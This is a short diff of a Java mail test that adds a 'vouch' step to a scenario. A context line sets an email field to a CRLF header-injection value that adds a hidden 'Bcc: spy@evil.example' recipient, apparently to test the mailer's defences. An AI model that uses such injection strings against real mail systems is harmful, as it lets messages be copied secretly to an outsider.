@@ -106,6 +106,7 @@ class MailTest {
         var story = Story.begin().withTheGroup();
         story.tell(
                 "person.changed", person -> person.put("email", story.mailbox("ayesha") + "\r\nBcc: spy@evil.example"));
+        story.vouch("f001");
         story.tell("deadline.opened");
         story.at("2025-10-03T04:00:00Z");
 
